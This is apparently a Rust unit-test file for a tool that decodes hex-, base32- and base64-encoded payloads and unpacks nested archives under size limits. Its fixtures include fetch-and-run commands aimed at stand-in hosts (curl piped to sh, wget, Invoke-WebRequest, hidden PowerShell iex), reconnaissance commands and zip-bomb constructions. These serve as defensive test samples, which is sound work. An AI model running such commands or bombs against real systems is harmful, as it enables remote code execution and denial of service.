//! Unit tests for the opt-in extras (hex and base32 layers, nested archives) and the
//! overlapping-entry zip check.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::{Cursor, Write};

use super::tests::{b64, gzip, opts};
use super::*;

fn hex(data: &[u8]) -> String {
    data.iter().map(|b| format!("{b:02x}")).collect()
}

fn base32(data: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let mut out = String::new();
    for chunk in data.chunks(5) {
        let mut block = [0u8; 5];
        block[..chunk.len()].copy_from_slice(chunk);
        let n = block.iter().fold(0u64, |acc, b| (acc << 8) | u64::from(*b));
        let chars = (chunk.len() * 8).div_ceil(5);
        for k in 0..8 {
            if k < chars {
                out.push(char::from(ALPHABET[((n >> (35 - 5 * k)) & 31) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in members {
        writer.start_file(*name, options).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn with(change: impl FnOnce(&mut UnpackOptions)) -> UnpackOptions {
    let mut o = opts();
    change(&mut o);
    o
}

#[test]
fn hex_layer_is_opt_in_and_only_where_meaningful() {
    let line = format!(
        "cmd /c echo {} done",
        hex(b"powershell -nop -w hidden -c iex")
    );
    // Default: msticpy's reading (hex digits decoded as base64 give binary noise).
    let plain = unpack_string(&line, &opts());
    assert_eq!(plain.records[0].source_encoding, SourceEncoding::Base64);
    assert_eq!(plain.records[0].encoding_type.as_str(), "binary");

    let on = with(|o| o.decode_hex = true);
    let res = unpack_string(&line, &on);
    assert_eq!(res.records.len(), 1);
    assert_eq!(res.records[0].source_encoding, SourceEncoding::Hex);
    assert_eq!(
        res.records[0].decoded_string.as_deref(),
        Some("powershell -nop -w hidden -c iex")
    );
    assert!(res.decoded_string.starts_with(
        "cmd /c echo <decoded type='string' name='[None]' index='1' depth='1'>powershell"
    ));

    // A hash is hex too, but its bytes mean nothing: msticpy's base64 reading stays.
    let hash = "d41d8cd98f00b204e9800998ecf8427e";
    let res = unpack_string(&format!("md5 {hash}"), &on);
    assert_eq!(res.records[0].source_encoding, SourceEncoding::Base64);
    assert_eq!(
        res.records,
        unpack_string(&format!("md5 {hash}"), &opts()).records
    );

    // 0x-prefixed hex of a gzip is typed and unpacked like msticpy's base64 gzip.
    let gz = gzip(b"curl http://evil.example/x.sh | sh");
    let res = unpack_string(&format!("blob 0x{}", hex(&gz)), &on);
    assert_eq!(res.records[0].file_type.as_deref(), Some("gz"));
    assert_eq!(res.records[0].file_name, "gzip_file");
    assert_eq!(
        res.records[0].decoded_string.as_deref(),
        Some("curl http://evil.example/x.sh | sh")
    );
}

#[test]
fn base32_layer_takes_its_longer_padding() {
    let payload = b"wget http://198.51.100.7/a -O /tmp/a"; // 36 bytes: 4 pad chars
    let encoded = base32(payload);
    assert!(encoded.ends_with("===="));
    let line = format!("data={encoded};next");
    let on = with(|o| o.decode_base32 = true);
    let res = unpack_string(&line, &on);
    assert_eq!(res.records.len(), 1);
    assert_eq!(res.records[0].source_encoding, SourceEncoding::Base32);
    assert_eq!(
        res.records[0].decoded_string.as_deref(),
        Some(std::str::from_utf8(payload).unwrap())
    );
    assert_eq!(&*res.records[0].original_string, encoded.as_str());
    assert!(res.decoded_string.ends_with("</decoded>;next"));
    assert!(!res
        .decoded_string
        .contains('='.to_string().repeat(2).as_str()));
    // Off: unchanged msticpy behaviour.
    assert_eq!(
        unpack_string(&line, &opts()).records[0].source_encoding,
        SourceEncoding::Base64
    );
}

#[test]
fn layers_nest_with_base64() {
    // base64 of text holding a hex run of a command: two levels.
    let inner = format!("run {}", hex(b"whoami /all && net user"));
    let line = format!("x {}", b64(inner.as_bytes()));
    let res = unpack_string(&line, &with(|o| o.decode_hex = true));
    assert_eq!(res.records.len(), 2);
    assert_eq!(res.records[1].source_encoding, SourceEncoding::Hex);
    assert_eq!(
        res.records[1].decoded_string.as_deref(),
        Some("whoami /all && net user")
    );
    assert_eq!(res.records[1].reference.1, "2.");
}

#[test]
fn nested_gzip_inside_zip_is_opt_in() {
    let gz = gzip(b"Invoke-WebRequest http://evil.example/stage2");
    let archive = zip_of(&[("readme.txt", b"hello"), ("payload.gz", &gz)]);
    let line = b64(&archive);
    let plain = unpack_string(&line, &opts());
    let names: Vec<&str> = plain.records.iter().map(|r| r.file_name.as_str()).collect();
    assert_eq!(names, ["readme.txt", "payload.gz"]);

    let res = unpack_string(&line, &with(|o| o.nested_archives = true));
    let names: Vec<&str> = res.records.iter().map(|r| r.file_name.as_str()).collect();
    assert_eq!(names, ["readme.txt", "payload.gz", "payload.gz/gzip_file"]);
    let inner = &res.records[2];
    assert_eq!(inner.file_type.as_deref(), Some("gz"));
    assert_eq!(
        inner.decoded_string.as_deref(),
        Some("Invoke-WebRequest http://evil.example/stage2")
    );
    assert_eq!(res.records[1].input_bytes, gz);
    assert!(res
        .decoded_string
        .contains("name='[gz] Filename: payload.gz/gzip_file' index='1.3' depth='2'>Invoke"));
}

#[test]
fn nested_zip_bomb_is_bounded_by_depth_and_budget() {
    // 30 levels of zip in zip: stops after b64_max_depth archive levels.
    let mut blob = b"core".to_vec();
    for level in 0..30 {
        blob = zip_of(&[(&format!("l{level}.zip"), &blob)]);
    }
    let on = with(|o| o.nested_archives = true);
    let res = unpack_string(&b64(&blob), &on);
    assert_eq!(res.records.len(), on.limits.b64_max_depth + 1);
    // A tight total budget stops early with a status instead.
    let tight = with(|o| {
        o.nested_archives = true;
        o.limits.decode_max_total_bytes = blob.len() * 3;
    });
    let res = unpack_string(&b64(&blob), &tight);
    assert!(res.records.len() < 10);
    assert_eq!(res.status, Status::LimitTotalBytes);
}

/// A zip whose two central-directory entries share one local entry (Fifield's bomb).
fn overlapping_zip() -> Vec<u8> {
    let data = b"hello";
    let crc = {
        let mut c = flate2::Crc::new();
        c.update(data);
        c.sum()
    };
    let mut out = Vec::new();
    let local = |out: &mut Vec<u8>| {
        out.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00");
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&5u32.to_le_bytes());
        out.extend_from_slice(&5u32.to_le_bytes());
        out.extend_from_slice(&1u16.to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(b"a");
        out.extend_from_slice(data);
    };
    local(&mut out);
    let cd_start = out.len();
    for name in [b"a", b"b"] {
        out.extend_from_slice(b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00");
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&5u32.to_le_bytes());
        out.extend_from_slice(&5u32.to_le_bytes());
        out.extend_from_slice(&1u16.to_le_bytes()); // name length
        out.extend_from_slice(&[0; 8]); // extra, comment, disk, internal attrs
        out.extend_from_slice(&0u32.to_le_bytes()); // external attrs
        out.extend_from_slice(&0u32.to_le_bytes()); // local header offset: shared
        out.extend_from_slice(name);
    }
    let cd_len = out.len() - cd_start;
    out.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00\x02\x00\x02\x00");
    out.extend_from_slice(&u32::try_from(cd_len).unwrap().to_le_bytes());
    out.extend_from_slice(&u32::try_from(cd_start).unwrap().to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

#[test]
fn overlapping_zip_entries_are_refused_by_default() {
    let zip = overlapping_zip();
    let strict = ArchiveBudget::from_limits(&Limits::default());
    assert_eq!(
        get_items_from_zip(&zip, &strict),
        Err(Status::OverlappingEntries)
    );
    let lenient = ArchiveBudget {
        reject_overlap: false,
        ..strict
    };
    let members = get_items_from_zip(&zip, &lenient).unwrap();
    assert_eq!(members.len(), 2);
    // A well-formed archive is not flagged.
    assert!(get_items_from_zip(&zip_of(&[("a", b"x"), ("b", b"y")]), &strict).is_ok());
}

/// What the records of a result keep, in bytes (the figure `decode_max_output_bytes`
/// bounds, without the markup).
fn kept(res: &UnpackResult) -> usize {
    res.records
        .iter()
        .map(|r| {
            r.input_bytes.len()
                + r.printable_bytes.len()
                + r.decoded_string.as_ref().map_or(0, String::len)
        })
        .sum()
}

#[test]
fn records_over_the_output_budget_keep_only_name_type_and_hashes() {
    let leaf = vec![0u8; 1 << 20];
    let archive = zip_of(&[("a", &leaf), ("b", &leaf), ("c", &leaf), ("d", &leaf)]);
    let tight = with(|o| o.limits.decode_max_output_bytes = 8 << 20);
    let res = unpack_string(&b64(&archive), &tight);
    assert_eq!(res.records.len(), 4);
    // One member costs about 6 MiB (bytes, hex, text twice): only the first fits.
    assert_eq!(res.records[0].status, Status::Ok);
    assert_eq!(res.records[0].input_bytes.len(), 1 << 20);
    let expected = get_hashes(&leaf);
    for rec in &res.records[1..] {
        assert_eq!(rec.status, Status::LimitOutputBytes);
        assert!(rec.input_bytes.is_empty() && rec.printable_bytes.is_empty());
        assert_eq!(rec.decoded_string, None);
        assert_eq!(rec.sha256, expected.sha256);
        assert_eq!(rec.file_type.as_deref(), Some("zip"));
    }
    assert_eq!(res.status, Status::LimitOutputBytes);
    assert!(kept(&res) <= 8 << 20);
}

#[test]
fn oversized_run_gives_a_record_and_stays_in_the_text() {
    let blob: Vec<u8> = (0..3000u32).map(|i| (i * 7 % 251) as u8).collect();
    let text = format!("run {} end", b64(&blob));
    let small = with(|o| o.limits.decode_max_item_bytes = 1000);
    let res = unpack_string(&text, &small);
    assert_eq!(res.decoded_string, text);
    assert_eq!(res.records.len(), 1);
    let rec = &res.records[0];
    assert_eq!(rec.status, Status::LimitItemBytes);
    assert_eq!(rec.sha256, get_hashes(&blob).sha256);
    assert!(rec.input_bytes.is_empty());
    assert_eq!(&*rec.original_string, b64(&blob).as_str());
    assert_eq!(res.status, Status::LimitItemBytes);
}

#[test]
fn archive_contents_share_one_output_budget_per_call() {
    // Text with no base64 run in it, so the decoded members are not decoded again.
    let leaf = b"x ".repeat(1 << 19);
    let text = b64(&zip_of(&[("a", &leaf), ("b", &leaf)]));
    let limits = with(|o| o.limits.decode_max_output_bytes = 16 << 20);
    let call = std::sync::atomic::AtomicUsize::new(0);
    let first = unpack_string_in_call(&text, &limits, &call);
    let statuses: Vec<Status> = first.records.iter().map(|r| r.status).collect();
    assert!(statuses.iter().all(|s| *s == Status::Ok), "{statuses:?}");
    // Alone, the second input would fit as well; within the same call it does not.
    let second = unpack_string_in_call(&text, &limits, &call);
    assert!(second
        .records
        .iter()
        .any(|r| r.status == Status::LimitOutputBytes));
    assert!(kept(&first) + kept(&second) <= 16 << 20);
    assert!(unpack_string(&text, &limits)
        .records
        .iter()
        .all(|r| r.status == Status::Ok));
}

#[test]
fn zip_of_zips_bomb_spends_the_budget_quickly() {
    // 42.zip's shape, three levels of 16 (4,096 members of 256 KiB: 1 GiB expanded).
    let leaf = vec![0u8; 256 << 10];
    let names: Vec<String> = (0..16).map(|i| format!("f{i}")).collect();
    let mut data = zip_of(
        &names
            .iter()
            .map(|n| (n.as_str(), leaf.as_slice()))
            .collect::<Vec<_>>(),
    );
    for _ in 0..2 {
        data = zip_of(
            &names
                .iter()
                .map(|n| (n.as_str(), data.as_slice()))
                .collect::<Vec<_>>(),
        );
    }
    let on = with(|o| {
        o.nested_archives = true;
        o.limits.decode_max_output_bytes = 4 << 20;
        o.limits.decode_max_total_bytes = 16 << 20;
        o.limits.decode_max_item_bytes = 1 << 20;
    });
    let started = std::time::Instant::now();
    let res = unpack_string(&b64(&data), &on);
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    assert!(kept(&res) <= 4 << 20);
    assert!(res.records.len() < 400, "{} records", res.records.len());
    assert!(res
        .records
        .iter()
        .any(|r| r.status == Status::LimitOutputBytes));
    assert!(res
        .records
        .iter()
        .all(|r| r.status == Status::Ok || r.status.as_str().starts_with("limit_exceeded:")));
}
